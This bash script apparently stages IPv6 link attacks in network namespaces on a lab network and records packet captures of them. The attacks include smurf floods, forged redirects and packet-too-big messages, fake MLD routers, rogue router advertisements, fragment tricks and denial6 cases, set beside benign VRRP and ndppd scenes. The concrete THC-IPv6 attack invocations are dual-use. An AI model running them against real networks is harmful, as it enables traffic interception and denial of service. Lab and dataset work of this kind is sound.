# shellcheck shell=bash
# More scenes of attacks on an IPv6 link, by forged pings, errors, groups and fragments,
# and of what looks like them; sourced by record.sh. Helpers are in scenes-link.sh.

BEYOND=2001:db8:2::1                             # an address behind r3, it is r3's own

# x4 asks all in a's name, 50 times a second for 2 s: h2 and r3 answer a.
smurf6() {
  four
  capture lan br0
  spell x4 2 atk6-smurf6 -i 20000 e1 2001:db8:1::1
  over
}
# x4 asks a in the name of all nodes, which Linux does not answer.
rsmurf6() {
  four
  storm_control 50
  capture lan br0
  spell x4 2 atk6-rsmurf6 e1 2001:db8:1::1
  over
}

# x4 says in r3's name that the way behind r3 is through x4.
redirect6-forged() {
  four
  default_route
  warm_up $BEYOND
  capture lan br0
  shown ping -n -c 4 -i 0.3 $BEYOND
  shown_on x4 atk6-redir6 e1 2001:db8:1::1 $BEYOND "$LL3" "$LL4"
  shown ip -6 route get $BEYOND
  shown ping -n -c 4 -i 0.3 -W 1 $BEYOND
  over
}

# x4 implants an MTU into a, twice: 1280 and one that is too small.
toobig6-forged() {
  local mtu
  four
  default_route
  warm_up $BEYOND
  capture lan br0
  for mtu in 1280 600; do
    shown_on x4 atk6-toobig6 e1 2001:db8:1::1 $BEYOND $mtu
    sleep 1
    shown ip -6 route get $BEYOND
  done
  over
}

# x4 says that it is a multicast router, then asks in the place of the querier, which is
# the bridge; and reports groups in a's name.
mld6-forged() {
  four
  in_ns lan sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.br0.disable_ipv6=0
  capture lan br0
  in_ns lan ip link set br0 type bridge mcast_snooping 1 mcast_mld_version 2 \
    mcast_querier 1 mcast_query_interval 500 mcast_query_response_interval 100 \
    mcast_startup_query_interval 300
  shown_on h2 python3 "$HERE/join.py" e1 3 ff0e::1234
  shown_on x4 atk6-fake_mldrouter6 e1 advertise
  shown_on x4 atk6-fake_mldrouter6 e1 solicitate
  shown_on x4 atk6-fake_mldrouter6 e1 terminate
  shown_on x4 atk6-fake_mld6 e1 query ::
  sleep 2
  shown_on x4 atk6-fake_mld26 e1 query :: :: 1 fe80::1
  shown_on x4 atk6-fake_mld26 e1 add ff0e::bad :: 1 fe80::ff:fe00:101
  shown_on x4 atk6-fake_mld6 e1 delete ff0e::1234 1 fe80::ff:fe00:102
  sleep 4
  over
}

forged() { four; warm_up 2001:db8:1::2; capture lan br0; shown_on x4 /usr/bin/python3 "$HERE/forge6.py" "$1"; sleep 1; }

# Overlapping fragments: with other bytes (dropped by a), the same bytes (answered).
fragments6-overlap() { forged overlap; over; }
# Atomic fragments: one that is the first and the last; a answers.
fragments6-atomic() { forged atomic; over; }
# Neighbor discovery in fragments, which a must drop (RFC 6980).
fragments6-nd() {
  forged neighbors
  spell x4 3 atk6-fake_advertise6 -f -n 2 -w 1 e1 2001:db8:1::2
  spell x4 6 atk6-fake_router6 -F e1 "$BAD"::/64
  shown_on x4 atk6-fake_router26 -E o -A "$BAD"::/64 -n 2 -i 1 e1
  shown ip -6 neigh show dev e1
  shown ip -6 route show
  over
}
# The cases of a program that tries firewalls.
fragments6-cases() {
  local i
  four
  capture lan br0
  for i in 1 2 3 4 5 6 7 8 9 10 11 12; do spell x4 4 atk6-fragmentation6 -p e1 2001:db8:1::1 $i; done
  over
}
headers6-cases() {
  four
  capture lan br0
  spell x4 80 atk6-implementation6 e1 2001:db8:1::1
  over
}

# Routing header 0, which a refuses.
routing6() { forged routing; over; }
# Node information queries, which nobody answers.
nodeinfo6() { forged nodeinfo; spell x4 5 atk6-node_query6 e1 2001:db8:1::1; over; }
# A DNS option of an even length.
rdnss6-even() { forged rdnss; over; }
# What a's kernel has parameter problems with; x4 is a buggy host rather than an attacker.
parameter6() { forged parameter; over; }

# The cases of denial6, of which the switch lets 3 frames a second through.
denial6() {
  local i
  four
  storm_control 3
  capture lan br0
  for i in 1 2 3 4 5 6 7; do spell x4 8 atk6-denial6 e1 2001:db8:1::1 $i; done
  over
}

# h2 and r3 share an address, which moves from h2 to r3 when h2's program ends, and
# back; with a MAC of its own or not. a pings it all the time.
vrrp() { # [LINE-OF-CONFIGURATION]
  local n state=(x x MASTER BACKUP)
  four
  for n in 2 3; do
    cat >"$TMP/vrrp$n.conf" <<-CONF
	global_defs { router_id lab$n
	  vrrp_garp_master_delay 1 }
	vrrp_instance lab {
	  state ${state[n]}
	  interface e1
	  $1
	  virtual_router_id 7
	  priority $((n == 2 ? 200 : 100))
	  advert_int 1
	  virtual_ipaddress { fe80::7:7
	    2001:db8:1::77/64 }
	}
	CONF
  done
  capture lan br0
  vrrp_on r3 3 BACKUP
  vrrp_on h2 2 MASTER
  local master=${PIDS[-1]}
  sleep 5
  beside a ping -n -c 60 -i 0.25 -W 1 2001:db8:1::77
  sleep 2
  kill "$master"
  sleep 6
  vrrp_on h2 2 MASTER
  awaited
  shown ip -6 neigh show 2001:db8:1::77 dev e1
  over
}
vrrp_on() { # NS N STATE
  background "$1" "$3" keepalived -n -l -D -P -f "$TMP/vrrp$2.conf" -p "$TMP/vrrp$2.pid" -r "$TMP/vrrp$2.vpid"
}
vrrp6() { vrrp ''; }
vrrp6-vmac() { vrrp 'use_vmac'; }

# r3 answers for what is behind it (ndppd): many addresses with one MAC, rightly.
proxy6() {
  local i
  four
  new_ns 6 b
  link 6 2 r3 b
  in_ns r3 ip -6 addr del 2001:db8:2::1/64 dev lo
  for i in 1 2 3 4 5; do in_ns b ip -6 addr add "2001:db8:1::b:$i/128" dev e2 nodad; done
  in_ns b ip -6 route add default via 2001:db8:2::1
  in_ns r3 ip -6 route add 2001:db8:1::b:0/112 via 2001:db8:2::2
  printf 'proxy e1 {\n  rule 2001:db8:1::b:0/112 {\n    static\n  }\n}\n' >"$TMP/ndppd.conf"
  capture lan br0
  background r3 'ndppd\|version' ndppd -v -c "$TMP/ndppd.conf"
  for i in 1 2 3 4 5; do shown ping -n -c 3 -i 0.3 -W 1 "2001:db8:1::b:$i"; done
  shown ip -6 neigh show dev e1
  over
}
